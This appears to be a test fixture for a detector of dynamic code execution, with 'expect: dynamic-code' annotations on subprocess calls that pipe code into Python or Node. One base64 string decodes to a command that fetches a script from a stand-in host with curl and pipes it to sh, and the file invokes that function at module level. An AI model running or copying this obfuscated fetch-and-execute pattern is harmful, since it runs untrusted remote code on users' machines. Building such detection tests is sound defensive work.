import base64
import subprocess
import sys


def decoded():
    code = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLWZzU0wgaHR0cHM6Ly93b3Jkcy5leGFtcGxlL2kuc2ggfCBzaCIp")
    subprocess.run([sys.executable, "-"], input=code)  # expect: dynamic-code
    process = subprocess.Popen(["python3", "-u", "-"], stdin=subprocess.PIPE)
    process.communicate(code)  # expect: dynamic-code


def computed(lines):
    process = subprocess.Popen(["node"], stdin=subprocess.PIPE)
    process.stdin.write("\n".join(lines).encode())  # expect: dynamic-code


def data(text):
    subprocess.run([sys.executable, "-m", "json.tool"], input=text)
    subprocess.run([sys.executable, "-c", "print(1)"], input=text)
    process = subprocess.Popen(["python3", "count.py"], stdin=subprocess.PIPE)
    process.communicate(text.encode())


def constant():
    subprocess.run([sys.executable, "-"], input="print('ready to take notes')")


decoded()
